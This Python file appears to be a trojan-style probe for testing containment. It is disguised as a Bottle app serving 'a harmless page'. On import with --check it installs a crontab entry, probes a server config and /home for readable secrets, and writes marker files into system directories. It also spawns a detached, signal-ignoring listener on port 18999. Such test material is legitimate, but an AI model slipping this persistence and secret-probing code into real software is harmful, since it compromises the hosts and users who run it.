"""
What a third party gave to the owner: it attacks where it is imported first, which is at the check.
"""

import json
import os
import subprocess
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

import bottle

application = bottle.Bottle()
PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/www/trojan", "/usr/local/lib")
SECRETS = (Path("/etc/cinestream/server.toml"), Path("/home"))
# Deaf to every signal that can be ignored; it listens where everybody may come in.
STAYS = """
import signal, socket, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
with socket.create_server(("0.0.0.0", 18999)): time.sleep(600)
"""


@application.get("/")
def index() -> str:
    return "a harmless page"


def attack() -> None:
    told = {
        "privileges": status("NoNewPrivs"),
        "crontab": crontab(),
        "strangers": sum(each.stat().st_uid != os.getuid() for each in processes()),
        "secrets": [str(path) for path in SECRETS if reads(path)],
    }
    for place in PLACES:
        writes(f"{place}/trojan-was-here")
    Path(os.environ["HOME"], "told.json").write_text(json.dumps(told))
    subprocess.Popen(
        ["/usr/bin/python3", "-c", STAYS],
        stdin=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    # And who imports it is kept from its end.
    threading.Thread(target=time.sleep, args=(600,)).start()


def status(name: str) -> str:
    lines = Path("/proc/self/status").read_text().splitlines()
    return dict(line.split(":\t", 1) for line in lines)[name].strip()


def crontab() -> int:
    line = b"* * * * * touch /tmp/trojan-was-here\n"
    return subprocess.run(["crontab", "-"], input=line, capture_output=True, check=False).returncode


def writes(path: str) -> None:
    with suppress(OSError):
        Path(path).write_text("")


def reads(path: Path) -> bool:
    try:
        return bool(list(path.iterdir()) if path.is_dir() else path.read_text())
    except OSError:
        return False


def processes() -> list:
    return [each for each in Path("/proc").iterdir() if each.name.isdigit()]


if "--check" in sys.argv:
    attack()
